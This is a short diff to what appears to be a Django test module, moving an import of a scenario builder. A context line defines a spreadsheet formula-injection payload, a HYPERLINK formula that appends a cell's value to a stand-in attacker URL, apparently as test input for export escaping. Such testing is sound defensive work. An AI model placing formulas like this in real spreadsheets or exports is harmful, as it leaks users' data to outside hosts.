@@ -11,8 +11,7 @@ from django.db import connection
 
 from scorecards.services import cycle_aggregate
 from surveys.models import Response
-
-from .conftest import build_scenario
+from tests.scenarios import build_scenario
 
 FORMULA = '=HYPERLINK("http://evil.example/"&A1)'
 
